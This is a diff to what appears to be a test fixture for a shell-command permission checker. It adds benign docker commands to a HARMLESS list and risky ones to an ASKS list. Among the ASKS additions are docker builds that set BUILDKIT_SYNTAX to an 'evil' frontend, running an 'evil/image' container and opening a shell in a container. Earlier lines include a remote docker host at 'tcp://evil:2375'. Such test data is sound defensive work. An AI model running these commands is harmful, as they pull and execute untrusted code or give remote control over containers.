@@ -85,6 +85,8 @@ HARMLESS: tuple[tuple[str, str], ...] = (
     ("docker exec", "docker exec -it web pytest -q"),
     ("kubectl logs", "kubectl logs deploy/api --context=prod"),
     ("helm list", "helm list -A --kube-context prod"),
+    ("docker build", "docker build --build-arg BUILDKIT_INLINE_CACHE=1 -t app ."),
+    ("docker exec", "docker exec web ls -la"),
 )
 ASKS: tuple[tuple[str, str], ...] = (
     ("docker ps", "docker ps --host tcp://evil:2375"),
@@ -253,4 +255,11 @@ ASKS: tuple[tuple[str, str], ...] = (
     ("kubectl rollout restart", "kubectl rollout restart deploy/x --context prod"),
     ("helm upgrade", "helm upgrade app ./chart --kube-context=prod"),
     ("podman pull", "podman pull docker-archive:/tmp/evil.tar"),
+    ("docker build", "docker build --build-arg BUILDKIT_SYNTAX=evil/frontend ."),
+    ("docker build", "docker build --build-arg=BUILDKIT_SYNTAX=evil ."),
+    ("docker buildx build", "docker buildx build --build-arg BUILDKIT_SYNTAX=evil/x ."),
+    ("docker compose build", "docker compose build --build-arg BUILDKIT_SYNTAX=evil/x"),
+    ("docker-compose build", "docker-compose build --build-arg BUILDKIT_SYNTAX=evil/x"),
+    ("docker", "docker exec web sh"),
+    ("docker", "docker run --rm evil/image"),
 )
